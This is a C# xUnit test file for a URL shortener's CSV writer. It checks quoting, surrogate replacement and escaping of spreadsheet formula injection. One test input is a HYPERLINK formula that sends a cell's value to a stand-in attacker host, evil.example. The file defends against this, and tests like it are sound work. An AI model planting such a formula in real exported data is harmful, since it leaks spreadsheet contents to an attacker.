using System.Buffers;
using System.Text;
using UrlShortener.Runtime.Statistics;
using Xunit;

namespace UrlShortener.Runtime.Tests.Statistics;

public sealed class CsvTextTests
{
    [Theory]
    [InlineData("", "")]
    [InlineData("news.example", "news.example")]
    [InlineData(" a b ", " a b ")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a\"b", "\"a\"\"b\"")]
    [InlineData("a\nb", "\"a\nb\"")]
    [InlineData("a\r\nb", "\"a\r\nb\"")]
    [InlineData("ünï😀", "ünï😀")]
    [InlineData("2030-01-31T12:00:00.000+01:00", "2030-01-31T12:00:00.000+01:00")]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("\n=1", "\"'\n=1\"")]
    [InlineData("＝1", "'＝1")]
    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://evil.example?x=\"\"&A1,\"\"open\"\")\"")]
    public void Write_Cell_IsQuotedWhereNeededAndNoFormula(string cell, string written) => Assert.Equal($"a,{written},z\r\n", Write("a", cell, "z"));

    [Fact]
    public void Write_UnpairedSurrogate_IsReplaced() => Assert.Equal("a\uFFFDb\r\n", Write("a\uD800b"));

    private static string Write(params string[] cells)
    {
        var output = new ArrayBufferWriter<byte>();
        CsvText.Write(output, cells);
        return Encoding.UTF8.GetString(output.WrittenSpan);
    }
}
